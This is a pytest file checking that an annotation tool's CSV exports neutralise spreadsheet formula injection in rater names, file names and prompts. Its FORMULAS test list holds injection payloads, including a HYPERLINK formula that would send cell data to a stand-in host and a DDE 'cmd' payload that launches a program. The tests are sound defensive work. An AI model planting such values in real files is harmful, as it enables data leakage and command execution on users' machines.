"""Finding 4 of #16: CSV formula injection. Text a spreadsheet would run as a formula (a rater's
display name, a file name, a prompt) is neutralised with a leading ' in every CSV, the dashboard's
and the release's; numbers stay numbers; Parquet and JSON Lines keep the raw values."""

from __future__ import annotations

import csv
import io
import json

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from django.urls import reverse

from annotation import exporters
from annotation.csvsafe import csv_cell_safe, csv_text_safe
from annotation.models import Rating
from annotation.services.agreement_snapshot import agreement_snapshot_create
from tests.support.seed import seed_rated_project

FORMULAS = ['=HYPERLINK("https://x.example/?"&A2,"open")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1", "\uff1d1+1"]


@pytest.mark.parametrize("text", FORMULAS)
def test_text_starting_a_formula_gets_a_quote(text):
    assert csv_text_safe(text) == "'" + text
    assert csv_cell_safe(text) == "'" + text


@pytest.mark.parametrize("value", ["plain", "", "a=b", "x-1", "-1", "-0.25", "+3e-2", ".5", -1, -0.5, 3, None, True])
def test_numbers_and_harmless_text_are_left_alone(value):
    assert csv_cell_safe(value) == value


def test_other_values_are_written_as_text_and_neutralised_like_text():
    class Shown:
        def __str__(self) -> str:
            return "=1+1"

    assert csv_cell_safe(Shown()) == "'=1+1"
    assert csv_cell_safe({"note": "=x"}) == "{'note': '=x'}"  # starts with a brace: harmless
    from decimal import Decimal

    assert csv_cell_safe(Decimal("-1.5")) == Decimal("-1.5")


def test_release_csv_neutralises_text_cells_and_parquet_jsonl_keep_them(tmp_path):
    n = len(FORMULAS) * 4
    table = pa.table({
        # many distinct values (the Arrow kernel path) and few distinct values (the coded path)
        "file_name": [FORMULAS[i % len(FORMULAS)] + f" {i}" for i in range(n)],
        "prompt": [FORMULAS[i % 2] for i in range(n)],
        "plain": ["-1" if i % 2 else "ok" for i in range(n)],
        "delta": pa.array([-1 - i for i in range(n)], pa.int16()),
        "score": pa.array([-0.5] * n, pa.float64()),
    })
    rows = list(csv.DictReader(io.StringIO(exporters._csv_bytes(table).decode(), newline="")))
    for row, raw in zip(rows, table.to_pylist(), strict=True):
        assert row["file_name"] == "'" + raw["file_name"]
        assert row["prompt"] == "'" + raw["prompt"]
        assert row["plain"] == raw["plain"]  # "-1" is a number, "ok" harmless
        assert row["delta"] == str(raw["delta"]) and row["score"] == "-0.5"
    jsonl = [json.loads(line) for line in exporters._jsonl_bytes(table).decode().splitlines()]
    assert jsonl == table.to_pylist()
    pq.write_table(table, tmp_path / "t.parquet")
    assert pq.read_table(tmp_path / "t.parquet").to_pylist() == table.to_pylist()


@pytest.mark.django_db
def test_dashboard_csv_neutralises_a_rater_display_name(client):
    seeded = seed_rated_project(slug="csvinj", n_images=8)
    project, rater = seeded["project"], seeded["raters"][0]
    rater.display_name = FORMULAS[0]
    rater.save(update_fields=["display_name"])
    agreement_snapshot_create(project, n_boot=0, seed=2)
    client.force_login(seeded["lead"])
    raters_csv = client.get(reverse("annotation:dashboard-raters", args=[project.slug]) + "?format=csv&table=raters")
    cells = [c for row in csv.reader(io.StringIO(raters_csv.content.decode())) for c in row]
    assert "'" + FORMULAS[0] in cells and FORMULAS[0] not in cells
    image_id = Rating.objects.filter(project=project, rater=rater).values_list("image_id", flat=True).first()
    detail = client.get(reverse("annotation:dashboard-disputed-detail", args=[project.slug, image_id])
                        + "?format=csv&table=ratings")
    first_cells = [row[0] for row in csv.reader(io.StringIO(detail.content.decode()))]
    assert "'" + FORMULAS[0] in first_cells and FORMULAS[0] not in first_cells
